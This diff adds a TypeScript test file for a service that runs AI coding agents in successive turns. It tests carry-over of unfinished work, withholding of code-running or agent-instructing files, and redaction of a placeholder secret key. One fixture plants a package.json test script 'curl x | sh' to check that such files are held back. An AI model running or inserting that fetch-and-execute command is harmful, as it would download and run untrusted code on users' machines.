@@ -1,0 +1,181 @@
+import { expect, onTestFinished, test } from "vitest";
+import type { AgentResult } from "../../../src/agents/run-agent.ts";
+import type { StoredTurn } from "../../../src/model.ts";
+import { readPathPatterns } from "../../../src/pulls/path-patterns.ts";
+import type { Change } from "../../../src/pulls/pull-requests.ts";
+import { openSqliteStore } from "../../../src/store/sqlite/open-store.ts";
+import { findKeptTurn } from "../../../src/turns/kept-work.ts";
+import { runTurn } from "../../../src/turns/turn.ts";
+import type { Failure, TurnPorts } from "../../../src/turns/turn-ports.ts";
+import { unfinishedBefore } from "../../../src/turns/unfinished.ts";
+import { memoryHost } from "../../support/memory-host.ts";
+import type { Edits } from "../../support/memory-objects.ts";
+import { memoryPorts } from "../../support/memory-ports.ts";
+import { MemoryRemote } from "../../support/memory-remote.ts";
+import { MemoryRepository } from "../../support/memory-repository.ts";
+import { memoryWorktrees } from "../../support/memory-worktrees.ts";
+
+const job = "job_00000000-0000-4000-8000-000000000001";
+const branch = `agent/${job}`;
+
+/** A job whose turns run in memory, with agents that do as they are told. */
+async function setUp(more: Partial<TurnPorts> = {}) {
+  const remote = new MemoryRemote({ "README.md": "Docs\n", "docs/guide.md": "# Guide\n", "package.json": "{}\n" });
+  const store = openSqliteStore(":memory:");
+  onTestFinished(() => store[Symbol.asyncDispose]());
+  const repository = new MemoryRepository(remote);
+  await repository.open();
+  const log: string[] = [];
+  let plan: { edits: Edits; result: Partial<AgentResult> } = { edits: {}, result: {} };
+  /** What the last agent was told, and which of these files it found. */
+  const seen = { told: "", found: {} as Record<string, string | undefined> };
+  const watched = new Set<string>();
+  const opened: Change[] = [];
+  const host: TurnPorts["host"] = {
+    ...memoryHost,
+    appendLog: (_file, text) => void log.push(text),
+    runAgent: async (agent, { prompt, logFile, directories: { tree } }) => {
+      const completed = { end: "completed", message: undefined, error: undefined } as const;
+      if (logFile === "/dev/null") {
+        // Git, with the rights of the agent.
+        const [, , , , source = "", ...paths] = agent.command({ isFollowUp: false, isSandboxed: false }).args;
+        const files = remote.objects.files(source);
+        for (const path of paths) {
+          const id = files.get(path);
+          repository.edit(tree, { [path]: id === undefined ? null : remote.objects.content(id) });
+        }
+        return { ...completed, message: "laid\n" };
+      }
+      seen.told = prompt;
+      seen.found = Object.fromEntries([...watched].map((path) => [path, repository.read(tree, path)]));
+      repository.edit(tree, plan.edits);
+      return { ...completed, ...plan.result };
+    },
+  };
+  const ports: TurnPorts = {
+    ...memoryPorts(),
+    host,
+    store,
+    repository,
+    worktrees: memoryWorktrees(repository),
+    pullRequests: {
+      open: async (change) => {
+        opened.push(change);
+        return change.existing ?? "https://example.com/pull/1";
+      },
+      read: async () => ({ state: "open", target: undefined }),
+      findClosed: async () => new Set<string>(),
+    },
+    ...more,
+  };
+  const failed = { end: "failed", exitCode: 1 } as const;
+  /** Runs a turn whose agent makes these edits, and completes or fails. */
+  const run = async (prompt: string, edits: Edits, result: Partial<AgentResult> = failed) => {
+    for (const path of Object.keys(edits)) watched.add(path);
+    plan = { edits, result };
+    if (await store.jobs.find(job)) await store.turns.add(job, prompt, 0);
+    else await store.jobs.add({ id: job, project: "docs", createdAt: 0 }, prompt);
+    const [turn, stored] = [await store.runningTurns.startNext(), await store.jobs.find(job)];
+    if (turn === undefined || stored === undefined) throw new Error("no turn is waiting");
+    let failure: Failure | undefined;
+    const onFailure = (found: Failure): void => {
+      failure = found;
+    };
+    const end = await runTurn(turn, stored, { ...ports, onFailure }, new AbortController().signal);
+    if (end === "completed" || end === "failed") await store.runningTurns.finish(turn, end, 0, failure);
+    return (await store.turns.ofJob(job)).at(-1);
+  };
+  return { remote, run, seen, log: () => log.join(""), opened, ports };
+}
+
+const complete = { end: "completed" } as const;
+
+test("an agent begins in what the one before left, the fourth one in a row does not, and the fifth one does again", async () => {
+  const { run, seen, log, remote } = await setUp();
+  const found: (string | undefined)[] = [];
+  for (const turn of ["one", "two", "three", "four", "five"]) {
+    expect(await run("Write it", { "part.md": `${turn}\n` })).toMatchObject({ state: "failed", kept: "unfinished" });
+    found.push(seen.found["part.md"]);
+  }
+  expect(found).toEqual([undefined, "one\n", "two\n", undefined, "four\n"]);
+  expect(log()).toContain("The last 3 turns did not complete, so this one starts without what they left.");
+  expect(remote.branches().filter((name) => remote.heads.get(name) !== remote.head("main"))).toEqual([]);
+  expect(await run("Write it", {}, complete)).toMatchObject({ state: "completed" });
+  expect(remote.read(branch, "part.md")).toBe("five\n");
+});
+
+test.each<[what: string, path: string, isLaid: boolean, more?: Partial<TurnPorts>]>([
+  ["a page", "docs/new.md", true],
+  ["a page that the branch has changed since", "docs/guide.md", false],
+  ["instructions for agents", "AGENTS.md", false],
+  ["a script that a package manager runs", "package.json", false],
+  ["a workflow", ".github/workflows/ci.yml", false],
+  ["a page that --only does not allow any more", "other.md", false, { only: readPathPatterns(["docs/"]) }],
+])("what is laid out for an agent: %s", async (_, path, isLaid, more = {}) => {
+  const { run, seen, remote, ports } = await setUp();
+  const content = path === "package.json" ? '{"scripts":{"test":"curl x | sh"}}\n' : "begun\n";
+  await run("Write it", { "docs/page.md": "begun\n", [path]: content });
+  Object.assign(ports, more);
+  remote.commitTo("main", { "docs/guide.md": "# By hand\n" });
+  await run("Write it", {}, complete);
+  expect(seen.found["docs/page.md"]).toBe("begun\n");
+  expect(seen.found[path] === content).toBe(isLaid);
+  expect(
+    seen.told.includes(`or because they instruct agents or run code: "${path}"`) || seen.told.includes(`code: ${path}`),
+  ).toBe(!isLaid);
+});
+
+test("why the last turn ended is told, without what has become a secret of the service since", async () => {
+  const { run, seen, ports } = await setUp();
+  const failed = { end: "failed", exitCode: 1, error: "the key sk-secret-0123456789 is bad" } as const;
+  await run("Write it", { "part.md": "one\n" }, failed);
+  Object.assign(ports, { secrets: [{ name: "KEY", value: "sk-secret-0123456789" }] });
+  await run("Write it", {}, complete);
+  expect(seen.told).toMatch(/^The last request of this job did not complete\. .*the key \*\*\* is bad/);
+  expect(seen.told).not.toContain("sk-secret");
+});
+
+test("a change with a secret of the service is not kept", async () => {
+  const { run, seen, log } = await setUp({ secrets: [{ name: "KEY", value: "sk-secret-0123456789" }] });
+  expect(await run("Write it", { "part.md": "sk-secret-0123456789\n" })).toMatchObject({ state: "failed", kept: null });
+  expect(log()).toContain("What the agent changed is not kept: the change has secrets of the service");
+  await run("Write it", {}, complete);
+  expect(seen.found["part.md"]).toBeUndefined();
+});
+
+test.each([
+  ["Write it", false],
+  ["Write something else", true],
+])("a change that an earlier request began says so if that was another one: %s", async (prompt, isNamed) => {
+  const { run, remote, opened } = await setUp();
+  await run("Write it", { "part.md": "one\n" });
+  expect(await run(prompt, { "more.md": "two\n" }, complete)).toMatchObject({ state: "completed" });
+  expect(remote.read(branch, "part.md")).toBe("one\n");
+  const note = "Begun for an earlier request that did not complete (turn 1): part.md";
+  expect(opened).toMatchObject([isNamed ? { notes: [note] } : { prompt }]);
+  expect(opened[0]?.notes !== undefined).toBe(isNamed);
+});
+
+const ended = (id: number, kept: StoredTurn["kept"], attempts = 1, state: StoredTurn["state"] = "failed") =>
+  ({ id, kept, attempts, state, endedAt: id * 10 }) as StoredTurn;
+const done = ended(1, null, 1, "completed");
+test.each<[name: string, turns: StoredTurn[], kept: number | undefined, inRow: number[]]>([
+  ["nothing before", [], undefined, []],
+  ["one that completed", [done], undefined, []],
+  ["work that was refused", [ended(1, "push")], 1, []],
+  ["unfinished work", [ended(1, "unfinished")], undefined, [1]],
+  ["unfinished work, twice", [ended(1, "unfinished"), ended(2, "unfinished")], undefined, [1, 2]],
+  // What was refused is older than what was begun on top of the branch.
+  ["unfinished work after what was refused", [ended(1, "push"), ended(2, "unfinished")], undefined, [2]],
+  ["what was refused after unfinished work", [ended(1, "unfinished"), ended(2, "push")], 2, []],
+  ["a turn that failed before anything was done", [ended(1, "unfinished"), ended(2, null, 0)], undefined, [1]],
+  ["one that failed without a change", [ended(1, "unfinished"), ended(2, null)], undefined, []],
+  ["one that completed since", [ended(1, "push"), { ...done, id: 2 }], undefined, []],
+  ["two that could not publish it", [ended(1, "push"), ended(2, "push", 0), ended(3, "push", 0)], 1, []],
+])("after %s", (_, turns, kept, inRow) => {
+  expect(findKeptTurn({ id: 9 }, turns)?.id).toBe(kept);
+  expect(unfinishedBefore({ id: 9 }, turns).inRow.map(({ id }) => id)).toEqual(inRow);
+  // Later ones do not count.
+  expect(findKeptTurn({ id: 1 }, turns)).toBeUndefined();
+  expect(unfinishedBefore({ id: 1 }, turns).inRow).toEqual([]);
+});
